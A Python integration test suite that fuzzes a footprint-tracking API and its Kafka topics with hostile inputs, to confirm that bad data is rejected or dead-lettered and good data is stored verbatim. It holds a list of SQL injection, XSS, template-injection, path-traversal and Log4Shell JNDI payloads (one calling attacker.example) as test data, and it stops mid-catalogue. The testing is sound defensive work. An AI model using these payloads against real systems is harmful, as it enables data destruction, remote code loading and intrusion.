"""Over 1,000 hostile inputs against the running product: bad input is contained, good is kept.

Each part runs on its own ``footprint run`` (API and worker in one process), so that one part's
damage cannot hide another part's result:

* ``POST /api/footprints`` with hypothesis-generated bodies, each labelled by construction:
  invalid (must be 4xx), valid (must be 202 and stored verbatim) or either (4xx, or 202 and
  stored verbatim); then footprint times far from now, on a server of their own;
* schemathesis against the served ``/openapi.json`` with a moderator's token: no 5xx anywhere,
  and every answer fits the document (status code, content type, headers, body schema);
* raw messages on the footprints and notifications topics, interleaved with valid ones: every
  bad one is dead-lettered with its original bytes, every good one is stored, the worker runs on.

The last test prints the closing figures of all parts. A memory guard kills the server if it
runs away, so that a runaway fails its test instead of the machine.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import subprocess
import threading
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple

import httpx
import psycopg
import pytest
from aiokafka import AIOKafkaProducer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api.auth import mint_token
from footprint.enrich import clean_referrer
from footprint.schema import Footprint, FootprintIn
from footprint.schema_types import HTTP_METHODS, MAX_LINK, MAX_TEXT
from footprint.settings import load_settings
from schemas.community import EVENT_TYPES, CreateParentComment, CreatePost, FollowUser, PenaltyUser
from tests.integration.conftest import (
    BIN,
    JWT_SECRET,
    Process,
    Served,
    free_port,
    stream_status,
    wait_http,
    wait_until,
)
from tests.integration.traffic import consume_all

pytestmark = pytest.mark.integration

MAX_BODY = 1_048_576  # FOOTPRINT_MAX_BODY_BYTES default
MAX_BATCH = 1000  # FOOTPRINT_MAX_BATCH_FOOTPRINTS default
MEMORY_LIMIT_MB = 2048  # the product idles near 400 MB
API_EXAMPLES = 450
SCHEMATHESIS_EXAMPLES = 15
# A fixed seed keeps the suite reproducible (what fails once fails again, and CI does not
# depend on the draw); FOOTPRINT_SCHEMATHESIS_SEED=random explores new cases.
SCHEMATHESIS_SEED = os.environ.get("FOOTPRINT_SCHEMATHESIS_SEED", "20261130")
TOPIC_EXAMPLES = 120  # generated bad messages per topic, on top of the fixed catalogue
HYPOTHESIS = {
    "deadline": None,
    "database": None,
    "suppress_health_check": [
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
        HealthCheck.large_base_example,
    ],
}
INJECTIONS = (
    "'; DROP TABLE user_footprint; --",
    "<script>alert(document.cookie)</script>",
    '" OR "1"="1',
    "' OR 1=1 --",
    "1; SELECT pg_sleep(30); --",
    "Robert'); DROP TABLE users;--",
    "$$; TRUNCATE user_footprint; $$",
    "' UNION SELECT event_id, link FROM user_footprint --",
    "'); COPY user_footprint TO PROGRAM 'id'; --",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "%s%s%s%n%x",
    "../../../../etc/passwd",
    "\\'; SELECT 1; --",
    "\u202egnp.exe",
    "Zalgo: Z\u0351\u0364\u036b\u0353a\u0352l\u0346g\u0343o",
    "\U0001f600 \u4e2d\u6587 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
)
DROP_TABLE_LINK = "/'; DROP TABLE user_footprint; --"
SCRIPT_LINK = "/<script>alert(document.cookie)</script>"
# Footprint fields PostgreSQL must hold exactly as sent (str_strip_whitespace aside: generated
# values never start or end with white space), the referrer as ``clean_referrer`` makes it.
VERBATIM = ("link", "route", "referrer", "utm_source", "utm_campaign", "user_id")

# Figures of each part, for the closing line.
TALLY: dict[str, Counter[str]] = {}


# --- the running product ---------------------------------------------------------------------


class MemoryGuard:
    """Kill the server when its resident memory passes a limit (Linux; elsewhere it only waits).

    A runaway server must fail its test, not take the machine down with it.
    """

    def __init__(self, proc: Process, limit_mb: int = MEMORY_LIMIT_MB) -> None:
        self.proc = proc
        self.limit_mb = limit_mb
        self.peak_mb = 0
        self.tripped = False
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self) -> None:
        status = Path(f"/proc/{self.proc.proc.pid}/status")
        while not self._stop.wait(0.2) and self.proc.alive():
            try:
                rss = int(status.read_text().split("VmRSS:")[1].split()[0]) // 1024
            except (OSError, IndexError, ValueError):
                return
            self.peak_mb = max(self.peak_mb, rss)
            if rss > self.limit_mb:
                self.tripped = True
                self.proc.proc.kill()
                return

    def __enter__(self) -> MemoryGuard:
        if Path("/proc/self/status").exists():
            self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()


@dataclass
class Running(Served):
    env: dict[str, str]
    base: str
    proc: Process
    guard: MemoryGuard

    def status(self) -> dict[str, Any]:
        return stream_status(self.base, timeout=10)

    def alive(self) -> bool:
        """The process runs within its memory bound and its worker's heartbeat is fresh."""
        if not self.proc.alive() or self.guard.tripped:
            return False
        try:
            return bool(self.status()["worker_alive"])
        except httpx.HTTPError:
            return False

    def settled(self) -> bool:
        """The worker has committed everything on both input topics (lag 0)."""
        topics = {self.env["FOOTPRINT_FOOTPRINTS_TOPIC"], self.env["FOOTPRINT_NOTIFICATIONS_TOPIC"]}
        parts = [p for p in self.status()["partitions"] if p["topic"] in topics]
        return bool(parts) and all(p["lag"] == 0 for p in parts)

    def health_note(self) -> str:
        """What to print when something was not stored: is the server up, what failed last."""
        if self.guard.tripped:
            return f"server killed: memory passed {self.guard.limit_mb} MB"
        if not self.proc.alive():
            return f"server exited ({self.proc.proc.returncode}):\n{self.proc.tail(30)}"
        try:
            status = self.status()
        except httpx.HTTPError as e:
            return f"status unavailable: {e}"
        return f"lag={status['lag']} last_error={status['last_error']!r}"


@pytest.fixture
def app(env: dict[str, str], spawn: Callable[..., Process]) -> Iterator[Running]:
    port = free_port()
    proc = spawn([str(BIN / "footprint"), "run", "--port", str(port)], env, "run")
    base = f"http://127.0.0.1:{port}"
    wait_http(base + "/health", proc)
    with MemoryGuard(proc) as guard:
        running = Running(env, base, proc, guard)
        # The worker must be alive at the end of each test, so it must be at the start.
        wait_until(running.alive, timeout=60, what="the worker's first heartbeat")
        yield running


def stored_footprints(pg: str, event_ids: list[str]) -> dict[str, dict[str, Any]]:
    """The rows of ``user_footprint`` for these event ids, by event id."""
    with psycopg.connect(pg) as conn:
        cur = conn.execute(
            f"SELECT event_id::text, {', '.join(VERBATIM)} FROM user_footprint "
            "WHERE event_id = ANY(%s::uuid[])",
            (event_ids,),
        )
        return {row[0]: dict(zip(VERBATIM, row[1:], strict=True)) for row in cur.fetchall()}


# --- part 1: POST /api/footprints with hypothesis ----------------------------------------------

REJECT, ACCEPT, EITHER = "4xx", "202", "4xx or 202"


class Case(NamedTuple):
    """One request body and what the API must answer, decided when the body was built."""

    kind: str
    body: bytes
    expect: str
    status: int | None = None  # a specific 4xx the README documents
    stored: tuple[dict[str, str], ...] = ()  # per footprint: fields stored verbatim if accepted
    chunked: bool = False  # sent without a Content-Length

    def __repr__(self) -> str:
        body = self.body if len(self.body) <= 160 else self.body[:120] + b"..." + self.body[-20:]
        return f"Case({self.kind!r}, {len(self.body)} bytes: {body!r})"


def _json(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def _parses(raw: bytes) -> bool:
    try:
        json.loads(raw)
    except (ValueError, RecursionError):
        return False
    return True


def _not_utf8(raw: bytes) -> bool:
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False


def _verbatim(item: dict[str, Any]) -> dict[str, str]:
    # A referrer is kept without its query, fragment and user info (unit-tested in test_enrich).
    return {
        k: clean_referrer(item[k]) if k == "referrer" else item[k] for k in VERBATIM if k in item
    }


def _with(field_: str, value: Any, link: str = "/hostile/base") -> dict[str, Any]:
    return {"method": "GET", "link": link, field_: value}


NOW = datetime.now(UTC)
# No control characters, no white space: nothing the API strips or PostgreSQL cannot hold.
CLEAN = st.characters(exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp"))
clean_text = st.text(CLEAN, max_size=40)
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=30),
)
valid_item = st.fixed_dictionaries(
    {
        "method": st.sampled_from(sorted(HTTP_METHODS)).flatmap(
            lambda m: st.sampled_from([m, m.lower()])
        ),
        "link": clean_text.map(lambda t: "/hostile/" + t),
    },
    optional={
        "footprint_time": st.integers(0, 86_400).map(
            lambda s: (NOW - timedelta(seconds=s)).isoformat()
        ),
        "status_code": st.integers(100, 599),
        "duration_ms": st.floats(0, 86_400_000),
        "route": clean_text,
        "referrer": clean_text.map(lambda t: "https://example.com/" + t),
        "utm_source": clean_text,
        "utm_campaign": clean_text,
        "user_agent": clean_text,
        "user_id": clean_text,
    },
)


@st.composite
def injections(draw: st.DrawFn) -> Case:
    """SQL, HTML, template and format-string payloads as data: accepted, stored verbatim."""
    payload = draw(st.sampled_from(INJECTIONS))
    name = draw(st.sampled_from(VERBATIM))
    item = _with(name, "/" + payload) if name == "link" else _with(name, payload)
    return Case(f"injection in {name}", _json(item), ACCEPT, stored=(_verbatim(item),))


@st.composite
def any_text(draw: st.DrawFn) -> Case:
    """Any code point (NUL, controls, bidi, noncharacters): 4xx, or 202 and stored verbatim."""
    name = draw(st.sampled_from(VERBATIM))
    text = draw(st.text(max_size=40))
    item = _with(name, f"/{text}/" if name == "link" else f"<{text}>")
    return Case(f"any text in {name}", _json(item), EITHER, stored=(_verbatim(item),))


MALFORMED = (
    b"",
    b" ",
    b"{",
    b"[",
    b"}",
    b'{"method": "GET",}',
    b"{'method': 'GET', 'link': '/a'}",
    b'{"method" "GET"}',
    b'{"method": "GET", "link": "/a"',
    b'{"method": GET, "link": /a}',
    b'{"method": "GET", "link": "/a"}}',
    b'{"method": "GET", "link": "/a"} {"method": "GET", "link": "/b"}',
    b'[{"method": "GET", "link": "/a"},]',
    b"undefined",
    b"\x00",
    b'{"method": "GET", "link": "/a\\x41"}',
    b"<?xml version='1.0'?><footprint/>",
    b"method=GET&link=%2Fa",
)
malformed = st.one_of(
    st.sampled_from(MALFORMED),
    st.binary(max_size=200),
    st.text(max_size=80).map(str.encode),
).filter(lambda raw: not _parses(raw))

not_an_object = st.one_of(json_scalars, st.lists(json_scalars, min_size=1, max_size=5))

_STRING_FIELD_WRONG = st.one_of(
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.just(["x"]),
    st.just({"x": 1}),
)
WRONG_TYPES: dict[str, st.SearchStrategy[Any]] = {
    "method": st.one_of(_STRING_FIELD_WRONG, st.none(), st.just(["GET"])),
    "link": st.one_of(_STRING_FIELD_WRONG, st.none(), st.just(["/a"])),
    "footprint_time": st.one_of(
        st.none(),
        st.just([]),
        st.just({"t": 1}),
        st.sampled_from(["yesterday", "2026-13-45T99:99:99Z", "12:00", "", "T", "2026-02-30"]),
    ),
    "event_id": st.one_of(
        st.none(), st.just([]), st.integers(), st.sampled_from(["x", "1234", "g" * 32, "", "{}"])
    ),
    "status_code": st.one_of(
        st.sampled_from(["abc", "", "2OO"]),
        st.just([200]),
        st.just({"code": 200}),
        st.floats(100.5, 598.5).filter(lambda f: not f.is_integer()),
    ),
    "duration_ms": st.one_of(
        st.sampled_from(["fast", "", "1,5"]), st.just([1.0]), st.just({"ms": 1})
    ),
    **{name: _STRING_FIELD_WRONG for name in ("route", "referrer", "utm_term", "user_agent")},
}


@st.composite
def wrong_types(draw: st.DrawFn) -> Case:
    name = draw(st.sampled_from(sorted(WRONG_TYPES)))
    value = draw(WRONG_TYPES[name])
    return Case(f"wrong type for {name}", _json(_with(name, value)), REJECT)


LIMITS = (
    ("link", MAX_LINK),
    ("referrer", MAX_LINK),
    ("route", MAX_TEXT),
    ("utm_source", MAX_TEXT),
    ("utm_content", MAX_TEXT),
    ("user_agent", MAX_TEXT),
    ("user_id", MAX_TEXT),
    ("method", 16),
)


@st.composite
def too_long(draw: st.DrawFn) -> Case:
    name, limit = draw(st.sampled_from(LIMITS))
    size = draw(st.integers(limit + 1, limit * 4))
    value = "/" + "a" * (size - 1) if name == "link" else "G" * size
    return Case(f"{name} over {limit} chars", _json(_with(name, value)), REJECT)


@st.composite
def huge_bodies(draw: st.DrawFn) -> Case:
    size = draw(st.integers(MAX_BODY + 1, MAX_BODY + 200_000))
    shape = draw(st.sampled_from(["one huge link", "many footprints", "garbage"]))
    chunked = draw(st.booleans())
    if shape == "one huge link":
        body = _json({"method": "GET", "link": "/" + "a" * size})
    elif shape == "many footprints":
        item = _json({"method": "GET", "link": "/hostile/many"})
        body = b"[" + b",".join([item] * (size // len(item) + 1)) + b"]"
    else:
        body = (b"<script>'; DROP TABLE user_footprint; --" * (size // 40 + 1))[: size + 1]
    how = "chunked" if chunked else "with length"
    return Case(f"body over 1 MiB ({shape}, {how})", body, REJECT, 413, chunked=chunked)


over_batch = st.integers(MAX_BATCH + 1, MAX_BATCH + 300).map(
    lambda n: Case(
        "list over 1,000",
        _json([{"method": "GET", "link": f"/hostile/{i}"} for i in range(n)]),
        REJECT,
        413,
    )
)


@st.composite
def invalid_utf8(draw: st.DrawFn) -> Case:
    bad = draw(st.binary(min_size=1, max_size=12).filter(_not_utf8))
    name = draw(st.sampled_from(["link", "utm_source", "method"]))
    prefix = b"/" if name == "link" else b""
    body = _json(_with(name, "@@")).replace(b'"@@"', b'"' + prefix + bad + b'"')
    return Case(f"invalid UTF-8 in {name}", body, REJECT)


lone_surrogates = st.integers(0xD800, 0xDFFF).map(
    lambda cp: Case(
        "lone surrogate escape",
        _json({"method": "GET", "link": "@@"}).replace(b'"@@"', f'"/\\u{cp:04x}"'.encode()),
        REJECT,
    )
)


@st.composite
def unknown_fields(draw: st.DrawFn) -> Case:
    """A field FootprintIn does not have, including ones only the server may set."""
    key = draw(
        st.one_of(
            st.sampled_from(["is_bot", "visitor_id", "referrer_host", "browser", "ip", "admin"]),
            st.sampled_from(["__proto__", "constructor", "$where", "Link", " link"]),
            st.text(min_size=1, max_size=20),
        ).filter(lambda k: k not in FootprintIn.model_fields)
    )
    return Case(
        "unknown field", _json({**_with("link", "/hostile/x"), key: draw(json_scalars)}), REJECT
    )


def _raw_number(name: str, literal: str) -> bytes:
    return _json(_with(name, "@@")).replace(b'"@@"', literal.encode())


OUT_OF_RANGE_RAW = (
    _raw_number("duration_ms", "NaN"),
    _raw_number("duration_ms", "Infinity"),
    _raw_number("duration_ms", "-Infinity"),
    _raw_number("status_code", "NaN"),
    _raw_number("status_code", "1e400"),
    _raw_number("duration_ms", "-1e400"),
    _raw_number("footprint_time", "1e20"),
    _raw_number("footprint_time", "-1e20"),
    _json(_with("footprint_time", "0001-01-01T00:00:00+05:00")),
    _json(_with("footprint_time", "9999-12-31T23:59:59-14:00")),
)
out_of_range = st.one_of(
    st.sampled_from(OUT_OF_RANGE_RAW),
    st.one_of(st.integers(max_value=99), st.integers(min_value=600)).map(
        lambda n: _json(_with("status_code", n))
    ),
    st.one_of(
        st.floats(max_value=-1e-9, allow_nan=False, allow_infinity=False),
        st.floats(min_value=86_400_001, allow_nan=False, allow_infinity=False),
    ).map(lambda f: _json(_with("duration_ms", f))),
    # Past Python's 4,300-digit limit for int(): json.loads itself refuses these.
    st.tuples(st.sampled_from(["status_code", "duration_ms"]), st.integers(4_301, 20_000)).map(
        lambda t: _raw_number(t[0], "9" * t[1])
    ),
)

deeply_nested = st.tuples(st.integers(900, 200_000), st.booleans()).map(
    lambda t: Case(
        "deeply nested",
        b"[" * t[0] + b"]" * t[0] if t[1] else b'{"a":' * t[0] + b"1" + b"}" * t[0],
        REJECT,
    )
)

hostile_cases = st.one_of(
    valid_item.map(lambda d: Case("valid", _json(d), ACCEPT, stored=(_verbatim(d),))),
    st.lists(valid_item, min_size=1, max_size=20).map(
        lambda ds: Case("valid list", _json(ds), ACCEPT, stored=tuple(map(_verbatim, ds)))
    ),
    injections(),
    st.sampled_from(INJECTIONS).map(
        lambda p: Case("injection in method", _json(_with("method", p)), REJECT)
    ),
    any_text(),
    malformed.map(lambda raw: Case("malformed JSON", raw, REJECT)),
    not_an_object.map(lambda v: Case("not an object", _json(v), REJECT)),
    wrong_types(),
    too_long(),
    huge_bodies(),
    over_batch,
    invalid_utf8(),
    lone_surrogates,
    unknown_fields(),
    out_of_range.map(lambda raw: Case("out of range", raw, REJECT)),
    deeply_nested,
)


EDGE_CASES = (
    Case(
        "any text in link",
        _json(_with("link", "/nul/\x00/")),
        EITHER,
        stored=({"link": "/nul/\x00/"},),
    ),
    Case(
        "tiny duration_ms",
        _json(_with("duration_ms", 5e-324)),
        ACCEPT,
        stored=({"link": "/hostile/base"},),
    ),
    Case(
        "lone surrogate escape", _json(_with("link", "@@")).replace(b'"@@"', b'"/\\ud800"'), REJECT
    ),
    Case("out of range", _raw_number("duration_ms", "NaN"), REJECT),
    Case("out of range", _raw_number("status_code", "9" * 5000), REJECT),
    Case("out of range", _json(_with("footprint_time", "0001-01-01T00:00:00+05:00")), REJECT),
    Case("deeply nested", b"[" * 100_000 + b"]" * 100_000, REJECT),
)


class Outcome(NamedTuple):
    case: Case
    status: int  # 0: the connection failed
    detail: str
    event_ids: list[str]


def post(client: httpx.Client, case: Case) -> Outcome:
    headers = {"content-type": "application/json"}
    body = case.body
    content: bytes | Iterator[bytes] = (
        (body[i : i + 65_536] for i in range(0, len(body), 65_536)) if case.chunked else body
    )
    try:
        r = client.post("/api/footprints", content=content, headers=headers)
    except httpx.TransportError:
        # After a 500 uvicorn drops the connection, and the next request on it is reset: once
        # more on a fresh connection, so each answer is charged to its own input.
        if case.chunked:
            content = (body[i : i + 65_536] for i in range(0, len(body), 65_536))
        try:
            r = client.post("/api/footprints", content=content, headers=headers)
        except httpx.TransportError as e:
            return Outcome(case, 0, f"{type(e).__name__}: {e}", [])
    ids = r.json().get("event_ids", []) if r.status_code == 202 else []
    return Outcome(case, r.status_code, r.text[:300], ids)


def verdict(o: Outcome) -> str | None:
    """Why an answer is wrong for its case, or None."""
    case, status = o.case, o.status
    if status == 0:
        return f"no answer ({o.detail})"
    if status >= 500:
        return f"{status} for {case.expect} input"
    if case.expect == REJECT and not 400 <= status < 500:
        return f"{status}, expected 4xx"
    if case.status is not None and status != case.status:
        return f"{status}, expected {case.status}"
    if case.expect == ACCEPT and status != 202:
        return f"{status}, expected 202: {o.detail}"
    if case.expect == EITHER and status != 202 and not 400 <= status < 500:
        return f"{status}, expected 4xx or 202"
    if status == 202 and len(o.event_ids) != len(case.stored):
        return f"202 with {len(o.event_ids)} event ids for {len(case.stored)} footprints"
    return None


def storage_problems(
    app: Running, accepted: list[tuple[str, dict[str, str], Case]]
) -> list[tuple[str, str]]:
    """Every accepted footprint must reach PostgreSQL with its text fields exactly as sent."""
    ids = [event_id for event_id, _, _ in accepted]
    try:
        rows = wait_until(
            lambda: r if len(r := stored_footprints(app.pg, ids)) == len(ids) else None,
            timeout=45,
            what=f"{len(ids)} accepted footprints in PostgreSQL",
        )
    except AssertionError:
        rows = stored_footprints(app.pg, ids)
    problems = []
    note = app.health_note() if len(rows) < len(ids) else ""
    for event_id, expected, case in accepted:
        row = rows.get(event_id)
        if row is None:
            problems.append((case.kind, f"202 but never stored ({note}): {case!r}"))
        elif any(row[k] != v for k, v in expected.items()):
            got = {k: row[k] for k in expected}
            problems.append((case.kind, f"stored {got!r} instead of {expected!r}: {case!r}"))
    return problems


def _summarise(problems: list[tuple[str, str]], limit: int = 4) -> str:
    """Problems grouped by case kind, a few examples each."""
    by_kind: dict[str, list[str]] = {}
    for kind, text in problems:
        by_kind.setdefault(kind, []).append(text)
    lines = []
    for kind, texts in sorted(by_kind.items()):
        lines.append(f"{kind}: {len(texts)}")
        lines += [f"    {t[:400]}" for t in texts[:limit]]
    return "\n".join(lines)


def judge(app: Running, outcomes: list[Outcome], part: str) -> list[tuple[str, str]]:
    """Wrong answers and accepted-but-lost footprints; adds the figures to the tally."""
    problems = [(o.case.kind, f"{why}: {o.case!r}") for o in outcomes if (why := verdict(o))]
    accepted = [
        (event_id, expected, o.case)
        for o in outcomes
        if o.status == 202
        for event_id, expected in zip(o.event_ids, o.case.stored, strict=False)
    ]
    problems += storage_problems(app, accepted)
    stored = len(stored_footprints(app.pg, [eid for eid, _, _ in accepted]))
    alive = app.alive()
    statuses = Counter(o.status // 100 for o in outcomes)
    hostile = [o for o in outcomes if not o.case.kind.startswith("valid")]
    TALLY.setdefault("api", Counter(worker_alive=1)).update(
        sent=len(hostile),
        api_4xx=sum(1 for o in hostile if 400 <= o.status < 500),
        api_5xx=statuses[5],
        accepted=len(accepted),
        stored=stored,
    )
    TALLY["api"]["worker_alive"] &= int(alive)
    kinds = Counter(o.case.kind.split(" (")[0] for o in outcomes)
    print(
        f"hostile {part}: requests={len(outcomes)} hostile={len(hostile)} "
        f"2xx={statuses[2]} 4xx={statuses[4]} 5xx={statuses[5]} no_answer={statuses[0]} "
        f"accepted_footprints={len(accepted)} stored={stored} "
        f"peak_rss_mb={app.guard.peak_mb} worker_alive={alive}"
    )
    print("  by kind: " + ", ".join(f"{k}={n}" for k, n in sorted(kinds.items())))
    if not alive:
        problems.append(("worker", f"not alive at the end: {app.health_note()}"))
    return problems


def test_api_answers_4xx_to_hostile_footprints_and_stores_what_it_accepts(app: Running) -> None:
    outcomes: list[Outcome] = []
    with httpx.Client(base_url=app.base, timeout=60) as client:
        # The two payloads the issue names, sent first and for sure: data, not SQL or markup.
        for link in (DROP_TABLE_LINK, SCRIPT_LINK):
            item = {"method": "GET", "link": link, "utm_source": link[1:]}
            case = Case("injection", _json(item), ACCEPT, stored=(_verbatim(item),))
            outcomes.append(post(client, case))

        @settings(max_examples=API_EXAMPLES, **HYPOTHESIS)  # type: ignore[arg-type]
        @given(case=hostile_cases)
        def send(case: Case) -> None:
            if app.proc.alive():
                outcomes.append(post(client, case))

        send()

        # Each known-hard class for sure, not only when hypothesis happens to draw it; last,
        # each with a good footprint after it, so that a stall shows on what follows.
        for case in EDGE_CASES:
            after = {"method": "GET", "link": f"/hostile/after/{len(outcomes)}"}
            outcomes.append(post(client, case))
            outcomes.append(
                post(client, Case("valid", _json(after), ACCEPT, stored=(_verbatim(after),)))
            )

    problems = judge(app, outcomes, "api")
    # A row that says DROP TABLE is a row: stored exactly, the table intact.
    dropper = outcomes[0].event_ids
    row = stored_footprints(app.pg, dropper).get(dropper[0]) if dropper else None
    assert row is not None and row["link"] == DROP_TABLE_LINK, row
    assert row["utm_source"] == DROP_TABLE_LINK[1:], row
    assert not problems, f"{len(problems)} wrong answers or losses:\n{_summarise(problems)}"


FAR_TIMES = ("0001-01-01T00:00:00Z", "7000-01-01T00:00:00Z", "9999-12-31T23:59:59Z")


def test_footprint_times_far_from_now_are_refused_or_stored_without_harm(app: Running) -> None:
    """Each far time is followed by a good footprint: refused, or stored and the worker goes on.

    On a server of its own: the worker must not run out of memory on a window in year 9999.
    """
    outcomes: list[Outcome] = []
    with httpx.Client(base_url=app.base, timeout=60) as client:
        for when in FAR_TIMES:
            far = _with("footprint_time", when, link=f"/hostile/far/{when}")
            after = {"method": "GET", "link": f"/hostile/after/{when}"}
            for item, expect in ((far, EITHER), (after, ACCEPT)):
                kind = f"footprint_time {when}" if item is far else "valid, after a far time"
                case = Case(kind, _json(item), expect, stored=(_verbatim(item),))
                outcomes.append(post(client, case))
    with contextlib.suppress(AssertionError):  # a worker that never settles is reported below
        wait_until(app.settled, timeout=30, what="the far times processed")
    problems = judge(app, outcomes, "far times")
    assert not problems, f"{len(problems)} wrong answers or losses:\n{_summarise(problems)}"


# --- part 2: schemathesis against the served OpenAPI document --------------------------------


def dangling_refs(document: Any, node: Any = None) -> list[str]:
    """``$ref`` pointers of an OpenAPI document that point at nothing."""
    node = document if node is None else node
    found: list[str] = []
    if isinstance(node, dict):
        ref = node.get("$ref")
        if isinstance(ref, str) and ref.startswith("#/"):
            target: Any = document
            for part in ref[2:].split("/"):
                target = target.get(part) if isinstance(target, dict) else None
            if target is None:
                found.append(ref)
        for value in node.values():
            found += dangling_refs(document, value)
    elif isinstance(node, list):
        for value in node:
            found += dangling_refs(document, value)
    return found


# Every check schemathesis has (server errors, status codes, content types, headers and bodies
# against the document, methods, auth, ...) but two whose premise the API does not meet:
# positive_data_acceptance takes any schema-valid request for one the API must accept, but
# some rules are not expressible in the schema (the event-time policy, start before end, known
# time zones and HTTP methods, following yourself); ensure_resource_availability takes a 404
# from a comment on a just-created post for a lost post, when it is the parent comment that
# belongs to another post.
CHECKS = "all"
EXCLUDED_CHECKS = "positive_data_acceptance,ensure_resource_availability"


def schemathesis_findings(report: Path) -> tuple[Counter[int], Counter[str], list[str]]:
    """From the NDJSON report: status codes answered, checks passed, and each failure found."""
    statuses: Counter[int] = Counter()
    passed: Counter[str] = Counter()
    failures: list[str] = []
    for line in report.read_text().splitlines() if report.exists() else []:
        recorder = (json.loads(line).get("ScenarioFinished") or {}).get("recorder", {})
        interactions = recorder.get("interactions", {})
        for interaction in interactions.values():
            statuses[(interaction.get("response") or {}).get("status_code", 0)] += 1
        for case_id, checks in recorder.get("checks", {}).items():
            for check in checks:
                if check.get("status") == "success":
                    passed[check["name"]] += 1
                    continue
                failure = (check.get("failure_info") or {}).get("failure") or {}
                interaction = interactions.get(case_id) or {}
                request = interaction.get("request") or {}
                body = base64.b64decode((request.get("body") or {}).get("$base64", ""))
                answer = (interaction.get("response") or {}).get("status_code")
                message = " ".join(str(failure.get("message", "")).split())
                failures.append(
                    f"{check['name']}: {request.get('method')} {request.get('uri')} "
                    f"{body[:160]!r} -> {answer}: {failure.get('title')}: {message[:400]}"
                )
    return statuses, passed, failures


def test_schemathesis_finds_no_server_error_and_every_answer_fits_the_document(
    app: Running, tmp_path: Path
) -> None:
    token = mint_token(load_settings(jwt_secret=JWT_SECRET), "schemathesis", admin=True)
    report = tmp_path / "schemathesis.ndjson"
    options = "--exclude-path-regex ^/ws --request-timeout 30"
    argv = [
        *(str(BIN / "schemathesis"), "--no-color", "run", app.base + "/openapi.json"),
        *("--checks", CHECKS, "--exclude-checks", EXCLUDED_CHECKS),
        *options.split(),
        *("--max-examples", str(SCHEMATHESIS_EXAMPLES)),
        *(("--seed", SCHEMATHESIS_SEED) if SCHEMATHESIS_SEED != "random" else ()),
        *("--header", f"Authorization: Bearer {token}"),
        *("--report", "ndjson", "--report-ndjson-path", str(report)),
    ]
    run = subprocess.run(
        argv, cwd=tmp_path, capture_output=True, text=True, timeout=400, env={**os.environ}
    )
    statuses, passed, failures = schemathesis_findings(report)
    server_errors = [f for f in failures if f.startswith("not_a_server_error")]
    spec = httpx.get(app.base + "/openapi.json", timeout=10).json()
    dangling = sorted(set(dangling_refs(spec)))
    alive = app.alive()

    TALLY["schemathesis"] = Counter(
        sent=sum(statuses.values()),
        api_2xx=sum(n for code, n in statuses.items() if 200 <= code < 300),
        api_4xx=sum(n for code, n in statuses.items() if 400 <= code < 500),
        api_5xx=sum(n for code, n in statuses.items() if code >= 500),
        answers_checked_against_schema=passed["response_schema_conformance"],
        check_failures=len(failures),
        worker_alive=int(alive),
    )
    print(
        f"hostile schemathesis: requests={sum(statuses.values())} "
        f"operations={len([p for ops in spec['paths'].values() for p in ops])} "
        f"status_codes={dict(sorted(statuses.items()))} "
        f"checks_passed={dict(sorted(passed.items()))} "
        f"failures={len(failures)} exit={run.returncode}"
    )
    tail = "\n".join(run.stdout.splitlines()[-60:]) + run.stderr[-2000:]
    assert statuses, f"schemathesis sent nothing:\n{tail}"
    # The answers were checked against the document, not only their status codes.
    assert passed["response_schema_conformance"] >= len(spec["paths"]), dict(passed)
    problems = []
    if server_errors or TALLY["schemathesis"]["api_5xx"]:
        problems.append(
            f"{TALLY['schemathesis']['api_5xx']} answers 5xx, e.g.:\n"
            + "\n".join(sorted(set(server_errors))[:12])
        )
    if others := sorted({f for f in failures if f not in server_errors}):
        problems.append(f"{len(others)} failed checks, e.g.:\n" + "\n".join(others[:20]))
    if run.returncode != 0 and not failures:
        problems.append(f"schemathesis failed:\n{tail}")
    if dangling:
        problems.append(f"/openapi.json refers to schemas it does not define: {dangling}")
    if not alive:
        problems.append(app.health_note())
    assert not problems, "\n".join(problems)


# --- part 3: raw messages on the topics ------------------------------------------------------


def produce(bootstrap: str, topic: str, records: list[tuple[bytes | None, bytes | None]]) -> None:
    """Put (key, value) records on a topic in order, as a misbehaving producer would."""

    async def go() -> None:
        producer = AIOKafkaProducer(bootstrap_servers=bootstrap, max_request_size=4 * MAX_BODY)
        await producer.start()
        try:
            sent = [await producer.send(topic, value, key=key) for key, value in records]
            await asyncio.gather(*sent)
        finally:
            await producer.stop()

    asyncio.run(go())


def good_footprint(i: int) -> Footprint:
    return Footprint(
        event_id=uuid.uuid4(),
        method="GET",
        link=f"/hostile/good/{i}",
        footprint_time=datetime.now(UTC),
        utm_source="'; DROP TABLE user_footprint; --",
    )


def _footprint_dict(**changes: Any) -> dict[str, Any]:
    return {**good_footprint(0).model_dump(mode="json"), **changes}


def _follow_dict(**changes: Any) -> dict[str, Any]:
    return {
        **FollowUser(actor_id="hostile-a", followed_id="hostile-b").model_dump(mode="json"),
        **changes,
    }


def bad_footprint_catalogue() -> list[bytes | None]:
    """Messages no footprint agent may store: each must be dead-lettered as it is."""
    whole = good_footprint(0).to_bytes()
    return [
        b"not json at all",
        b"{",
        whole[:-1],
        whole + b"}",
        b"",
        None,  # a tombstone
        b"{}",
        b"null",
        b"[]",
        b"0",
        b'"/hostile"',
        b"\xff\xfe\xfd",
        whole.replace(b'"link":"/hostile/good/0"', b'"link":"/hostile/\xff\xfe"'),
        whole.replace(b'"link":"/hostile/good/0"', b'"link":"/\xed\xa0\x80"'),
